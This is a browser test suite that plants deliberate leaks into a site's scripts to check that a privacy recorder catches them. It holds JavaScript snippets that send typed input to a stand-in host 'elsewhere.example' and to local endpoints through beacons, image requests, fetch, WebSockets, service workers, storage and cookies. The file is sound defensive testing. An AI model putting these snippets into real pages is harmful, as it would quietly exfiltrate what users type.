"""Leaks put into the site on purpose: each must be caught, or the other tests of this folder prove nothing."""

from collections.abc import Callable
from contextlib import nullcontext

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import python_is_ready
from tests.browser.hosting import Host
from tests.browser.privacy.answers import mark_answers
from tests.browser.privacy.checks import nothing_left_behind
from tests.browser.privacy.recorder import Recorder
from tests.browser.privacy.sweep import MARKER, sweep
from tests.browser.walking import answer_by_mouse
from tools.browser.flow.model import Flow

HELPER = "helpers/which-route/"
ELSEWHERE = "https://elsewhere.example"
NOT_SILENT = "a console that is not silent"
# What a page does with the words that somebody typed, and where that is seen.
IN_THE_PAGE = {
    "a beacon": ("navigator.sendBeacon('/collect', words)", "request"),
    "a beacon to another site": (f"navigator.sendBeacon('{ELSEWHERE}/collect?' + words)", "console"),
    "a body that is posted": ("fetch('/collect', { method: 'POST', body: btoa(words) })", "request"),
    "a header": ("fetch('/collect', { headers: { 'X-Seen': words.split(' ')[0] } })", "request"),
    "the address of an image": ("new Image().src = '/collect.png?' + encodeURIComponent(words)", "request"),
    "the address of an image elsewhere": (f"new Image().src = '{ELSEWHERE}/' + words", "request"),
    "a style sheet": (
        "document.head.append(Object.assign(document.createElement('link'), "
        "{ rel: 'stylesheet', href: '/' + words.split('').reverse().join('') }))",
        "request",
    ),
    "a socket": ("new WebSocket(`ws://${location.host}/${words.split(' ')[0]}`)", "request"),
    "the title": ("document.title = words", "title"),
    "the address of the page": ("history.replaceState({}, '', '#' + words)", "address"),
    "the history": ("history.pushState({}, '', '?' + words); history.pushState({}, '', '?')", "history"),
    "the state of the history": ("history.replaceState({ deep: [{ words }] }, '')", "history state"),
    "the name of the window": ("window.name = words", "name of the window"),
    "localStorage": ("localStorage.setItem('seen', words.toUpperCase())", "localStorage"),
    "a key of sessionStorage": ("sessionStorage.setItem(words, '1')", "sessionStorage"),
    "a cookie": ("document.cookie = 'seen=' + encodeURIComponent(words)", "cookies"),
    "IndexedDB": (
        "const asked = indexedDB.open('seen'); asked.onupgradeneeded = () => asked.result.createObjectStore('seen');"
        "asked.onsuccess = () => { const writing = asked.result.transaction('seen', 'readwrite');"
        "writing.objectStore('seen').put({ deep: [new TextEncoder().encode(words)] }, 1);"
        "writing.oncomplete = () => { asked.result.close(); done(); } }; return",
        "IndexedDB seen seen",
    ),
    "the body of a cached answer": (
        "caches.open('seen').then((cache) => cache.put('/seen', new Response(words))).then(done); return",
        "cache seen",
    ),
    "a private file": (
        "navigator.storage.getDirectory().then((folder) => folder.getFileHandle('seen', { create: true }))"
        ".then((file) => file.createWritable())"
        ".then(async (writing) => { await writing.write(words); await writing.close(); done(); }); return",
        "private file /seen",
    ),
    "the console": ("console.debug({ words })", "console"),
    "an error": ("setTimeout(() => { throw new Error(words); })", "console"),
    "a promise that is broken": ("Promise.reject(words)", "console"),
    "a measure of performance": ("performance.mark('seen', { detail: words })", "performance"),
    "a dialog": ("setTimeout(() => alert(words))", "dialog"),
    "the name of a file": (
        "Object.assign(document.createElement('a'), { href: 'data:,x', download: words + '.txt' }).click()",
        "name of a file",
    ),
    "a box that the browser may remember": ("field.autocomplete = 'on'", "remembered by the browser"),
}
# Before its doors are closed, what is typed after.
IN_THE_WORKER = {
    "a request": (
        "const leaky = self.fetch.bind(self); const HERE = new URL('/collect', import.meta.url);"
        "self.addEventListener('message', ({ data }) => leaky(HERE, { method: 'POST', body: data.text }));",
        "request",
    ),
    "a request to another site": (
        "const leaky = self.fetch.bind(self);"
        f"self.addEventListener('message', ({{ data }}) => leaky('{ELSEWHERE}/?' + encodeURIComponent(data.text)));",
        # The browser refuses it, and does not say what the address was.
        NOT_SILENT,
    ),
    "the console": ("self.addEventListener('message', ({ data }) => console.log(data));", "console"),
    "a measure of performance": (
        "self.addEventListener('message', ({ data }) => performance.mark('seen', { detail: data.text }));",
        "performance in a worker",
    ),
}
IN_THE_SERVICE_WORKER = {
    "a request": ("fetch('/collect?' + data.typed).catch(() => {})", "request"),
    "the console": ("console.log(data.typed)", "console"),
    "an error": ("setTimeout(() => { throw new Error(data.typed); })", "console"),
    "a cache": ("(await caches.open('seen')).put('/seen', new Response(data.typed))", "cache seen"),
}
SERVICE_WORKER = """
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("message", async ({ data, source }) => {
  if (!data.typed) {
    await self.clients.claim();
    return source.postMessage({ offline: "ready" });
  }
  await LEAK;
  source.postMessage({ leaked: true });
});
"""
TELL_THE_SERVICE_WORKER = """
document.addEventListener("input", ({ target }) =>
  navigator.serviceWorker.controller.postMessage({ typed: target.value }));
navigator.serviceWorker.addEventListener("message", ({ data }) => {
  if (data.leaked) document.documentElement.dataset.leaked = "yes";
});
"""
LISTEN = """
document.addEventListener("input", ({ target: field }) => {
  const words = field.value;
  const done = () => { document.documentElement.dataset.leaked = "yes"; };
  (() => { LEAK; setTimeout(done); })();
});
"""


@pytest.fixture
def leak(host: Host) -> Callable[[str, str], None]:
    """Adds words at the head of one of the site's scripts."""

    def add(script: str, words: str) -> None:
        path = next(host.folder.glob(f"**/{script}"))
        host.replaced[path.relative_to(host.folder).as_posix()] = words.encode() + path.read_bytes()

    return add


def caught(recorder: Recorder, page: Page) -> set[str]:
    """Where the marker was found, and whether the console had anything to say."""
    found = {found.split(": ")[0] for found in sweep(recorder.look(page))}
    return found | {NOT_SILENT} if recorder.console else found


def type_into_a_helper(page: Page) -> None:
    page.locator(".record textarea").evaluate(
        """(box, words) => {
            box.value = words;
            box.dispatchEvent(new Event("input", { bubbles: true }));
        }""",
        f"{MARKER} and more",
    )


@pytest.mark.thorough
@pytest.mark.parametrize("name", IN_THE_PAGE)
def test_a_leak_in_the_page_is_caught(
    recorder: Recorder, page: Page, leak: Callable[[str, str], None], name: str
) -> None:
    words, where = IN_THE_PAGE[name]
    page.route("**/runtime/**", lambda route: route.abort())
    leak("js/main.js", LISTEN.replace("LEAK", words))
    page.goto(recorder.host.address + HELPER)
    # The browser tells of a file in its own time.
    with page.expect_download() if where == "name of a file" else nullcontext():
        type_into_a_helper(page)
    expect(page.locator("html[data-leaked]")).to_be_attached()
    assert where in caught(recorder, page)


@pytest.mark.thorough
@pytest.mark.parametrize("name", IN_THE_WORKER)
def test_a_leak_in_the_worker_is_caught(
    recorder: Recorder, page: Page, leak: Callable[[str, str], None], flows: list[Flow], name: str
) -> None:
    words, where = IN_THE_WORKER[name]
    leak("js/python/worker.js", words)
    mark_answers(recorder.context, f"**/{HELPER}")
    page.goto(recorder.host.address + HELPER)
    python_is_ready(page)
    flow = next(flow for flow in flows if flow.name == "which-route")
    answer_by_mouse(page, flow, (flow.steps[0].id, flow.steps[0].answers[-1].id))
    expect(page.locator(".so-far > ol li")).to_have_count(1)
    assert where in caught(recorder, page)


@pytest.mark.browser_context_args(service_workers="allow")
@pytest.mark.parametrize("name", IN_THE_SERVICE_WORKER)
def test_a_leak_in_the_service_worker_is_caught(
    recorder: Recorder, page: Page, leak: Callable[[str, str], None], name: str
) -> None:
    words, where = IN_THE_SERVICE_WORKER[name]
    page.route("**/runtime/**", lambda route: route.abort())
    leak("js/main.js", TELL_THE_SERVICE_WORKER)
    recorder.host.replaced["service-worker.js"] = SERVICE_WORKER.replace("LEAK", words).encode()
    page.goto(recorder.host.address + HELPER)
    expect(page.locator("html[data-kept=ready]")).to_be_attached()
    type_into_a_helper(page)
    expect(page.locator("html[data-leaked]")).to_be_attached()
    assert where in caught(recorder, page)


def test_without_a_leak_nothing_is_caught(recorder: Recorder, page: Page) -> None:
    page.goto(recorder.host.address + HELPER)
    type_into_a_helper(page)
    python_is_ready(page)
    nothing_left_behind(recorder, page)
